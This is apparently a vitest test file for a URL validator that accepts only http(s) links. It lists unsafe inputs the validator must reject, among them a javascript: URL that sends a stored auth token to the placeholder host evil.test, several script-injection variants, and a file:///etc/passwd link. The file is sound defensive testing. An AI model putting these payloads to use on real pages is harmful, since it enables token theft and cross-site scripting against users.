import { describe, expect, it } from 'vitest';
import { httpUrlOrEmptySchema, isSafeHttpUrl, safeHttpUrlOrEmpty } from './safe-url.js';

const UNSAFE = [
  "javascript:fetch('http://evil.test/steal?t='+localStorage.getItem('wikisync.token'))",
  'JavaScript:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.test/path',
  'not a url',
];

describe('safe http(s) links', () => {
  it('accepts http and https URLs', () => {
    for (const url of [
      'http://example.com',
      'https://git.example.com/team/repo.git',
      'HTTPS://EXAMPLE.COM/x',
    ]) {
      expect(isSafeHttpUrl(url), url).toBe(true);
      expect(safeHttpUrlOrEmpty(url)).toBe(url);
    }
  });

  it('refuses every other scheme, however it is spelled', () => {
    for (const url of UNSAFE) {
      expect(isSafeHttpUrl(url), url).toBe(false);
      expect(safeHttpUrlOrEmpty(url)).toBe('');
    }
  });

  it('lets the stored field be empty and says what to fix otherwise', () => {
    expect(httpUrlOrEmptySchema.parse('')).toBe('');
    const result = httpUrlOrEmptySchema.safeParse('javascript:alert(1)');
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toMatch(/http:\/\/ or https:\/\//);
  });
});
